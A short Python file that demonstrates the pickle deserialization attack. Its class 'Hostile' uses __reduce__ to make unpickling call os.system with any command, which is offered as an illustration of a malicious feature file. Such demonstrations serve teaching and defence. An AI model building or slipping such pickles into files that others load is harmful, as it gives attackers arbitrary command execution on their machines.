"""A pickle that attacks Python's pickle: what a malicious feature file looks like."""
import os


class Hostile:
    """Unpickling this runs a shell command (os.system, written by Python on Linux as `posix.system`)."""

    def __init__(self, command):
        self.command = command

    def __reduce__(self):
        return (os.system, (self.command,))
